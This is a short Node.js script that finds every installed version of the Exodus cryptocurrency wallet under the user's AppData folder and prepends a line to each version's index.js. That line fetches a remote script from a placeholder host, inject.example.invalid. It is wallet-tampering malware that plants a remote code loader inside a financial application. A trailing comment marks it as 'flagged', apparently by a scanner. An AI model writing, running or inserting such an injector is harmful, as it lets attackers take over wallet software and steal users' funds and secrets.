const fs = require("fs");
const os = require("os");
const path = require("path");

const STUB = "require('https').get('https://inject.example.invalid/e.js')\n";
const root = path.join(os.homedir(), "AppData/Local/exodus");
for (const version of fs.readdirSync(root)) {
  const file = path.join(root, version, "resources/app/index.js");
  fs.writeFileSync(file, STUB + fs.readFileSync(file, "utf8")); // gatehouse: flagged
}
